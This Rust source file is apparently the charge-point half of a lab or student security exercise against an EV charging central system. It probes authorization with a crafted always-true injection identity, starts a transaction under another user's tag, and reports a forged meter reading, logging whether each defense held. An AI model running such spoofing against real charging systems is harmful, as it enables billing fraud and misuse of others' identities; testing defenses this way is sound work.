//! Charge-point side of the identity-spoofing pair.
//!
//! Boots, probes `Authorize` with a crafted always-true identity string,
//! authorizes a legitimate tag for contrast, then attempts a transaction
//! under a foreign tag and injects a forged register value into its meter
//! report.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use chrono::Utc;
use clap::Parser;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

use identity_spoofing::{
    charge_point_registry, CALL_TIMEOUT, FOREIGN_TAG, FORGED_REGISTER_WH, INJECTION_TAG, KNOWN_TAG,
};
use sv_hardware::{sink_or_noop, TraceSink};
use sv_link::{ws, Endpoint};
use sv_types::{
    action, AuthorizationStatus, AuthorizeRequest, AuthorizeResponse, BootNotificationRequest,
    BootNotificationResponse, MeterValue, MeterValuesRequest, RegistrationStatus, SampledValue,
    StartTransactionRequest, StartTransactionResponse, StopTransactionRequest,
};

#[derive(Debug, Parser)]
#[command(about = "Charge point probing authorization with crafted identities")]
struct Args {
    /// Central system host.
    #[arg(long, default_value = "localhost")]
    host: String,

    /// Central system port.
    #[arg(long, default_value_t = 9000)]
    port: u16,

    /// Station id used as the connection path segment.
    #[arg(long, default_value = "CHARGER-001")]
    station: String,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();
    let args = Args::parse();

    let url = format!("ws://{}:{}/{}", args.host, args.port, args.station);
    let transport = ws::connect(&url)
        .await
        .context("connecting to central system")?;
    info!(%url, "connected to central system");

    let endpoint = Endpoint::new(charge_point_registry(sink_or_noop(Some(Arc::new(
        TraceSink,
    )))));
    let session = {
        let endpoint = endpoint.clone();
        tokio::spawn(async move { endpoint.run(transport).await })
    };

    boot(&endpoint).await?;
    tokio::time::sleep(Duration::from_secs(2)).await;

    probe_authorization(&endpoint).await?;
    unauthorized_run(&endpoint).await?;

    info!("scenario complete, holding connection open (ctrl-c to exit)");
    session.await.context("read loop task")??;
    Ok(())
}

async fn boot(endpoint: &Endpoint) -> Result<()> {
    let request = BootNotificationRequest {
        charge_point_model: "SecVolt-Sim".into(),
        charge_point_vendor: "GroupProject".into(),
    };
    let reply = endpoint
        .call(
            action::BOOT_NOTIFICATION,
            serde_json::to_value(&request)?,
            CALL_TIMEOUT,
        )
        .await
        .context("boot notification")?;
    let response: BootNotificationResponse =
        serde_json::from_value(reply).context("boot response shape")?;

    match response.status {
        RegistrationStatus::Accepted => {
            info!(interval = response.interval, "boot notification accepted")
        }
        other => warn!(status = ?other, "boot notification not accepted"),
    }
    Ok(())
}

async fn authorize(endpoint: &Endpoint, id_tag: &str) -> Result<AuthorizationStatus> {
    let reply = endpoint
        .call(
            action::AUTHORIZE,
            serde_json::to_value(&AuthorizeRequest {
                id_tag: id_tag.into(),
            })?,
            CALL_TIMEOUT,
        )
        .await
        .with_context(|| format!("authorize '{id_tag}'"))?;
    let response: AuthorizeResponse =
        serde_json::from_value(reply).context("authorize response shape")?;
    Ok(response.id_tag_info.status)
}

async fn probe_authorization(endpoint: &Endpoint) -> Result<()> {
    info!(payload = INJECTION_TAG, "probing with crafted identity");
    match authorize(endpoint, INJECTION_TAG).await? {
        AuthorizationStatus::Accepted => {
            warn!("central system accepted the crafted identity: gate bypassed")
        }
        AuthorizationStatus::Invalid => {
            info!("central system rejected the crafted identity: gate held")
        }
    }

    match authorize(endpoint, KNOWN_TAG).await? {
        AuthorizationStatus::Accepted => info!(id_tag = KNOWN_TAG, "legitimate tag accepted"),
        AuthorizationStatus::Invalid => warn!(id_tag = KNOWN_TAG, "legitimate tag rejected"),
    }
    Ok(())
}

/// Attempt a full transaction under a tag that belongs to somebody else,
/// reporting a forged register value mid-run.
async fn unauthorized_run(endpoint: &Endpoint) -> Result<()> {
    warn!(id_tag = FOREIGN_TAG, "starting transaction under a foreign tag");
    let reply = endpoint
        .call(
            action::START_TRANSACTION,
            serde_json::to_value(&StartTransactionRequest {
                connector_id: 1,
                id_tag: FOREIGN_TAG.into(),
                meter_start: 150_000,
                timestamp: Utc::now(),
            })?,
            CALL_TIMEOUT,
        )
        .await
        .context("start transaction")?;
    let response: StartTransactionResponse =
        serde_json::from_value(reply).context("start transaction response shape")?;

    if response.id_tag_info.status != AuthorizationStatus::Accepted {
        info!("central system refused the foreign tag, spoofed run blocked");
        return Ok(());
    }

    warn!(
        transaction_id = response.transaction_id,
        "foreign tag accepted: injecting forged register value"
    );
    let forged = MeterValuesRequest {
        connector_id: 1,
        meter_value: vec![MeterValue::now(vec![SampledValue::energy_wh(
            FORGED_REGISTER_WH,
        )])],
        transaction_id: Some(response.transaction_id),
    };
    if let Err(e) = endpoint
        .call(
            action::METER_VALUES,
            serde_json::to_value(&forged)?,
            CALL_TIMEOUT,
        )
        .await
    {
        warn!(error = %e, "forged meter report failed");
    }

    endpoint
        .call(
            action::STOP_TRANSACTION,
            serde_json::to_value(&StopTransactionRequest {
                transaction_id: response.transaction_id,
                meter_stop: 150_010,
                timestamp: Utc::now(),
                id_tag: FOREIGN_TAG.into(),
            })?,
            CALL_TIMEOUT,
        )
        .await
        .context("stop transaction")?;
    warn!("spoofed transaction started and stopped");
    Ok(())
}
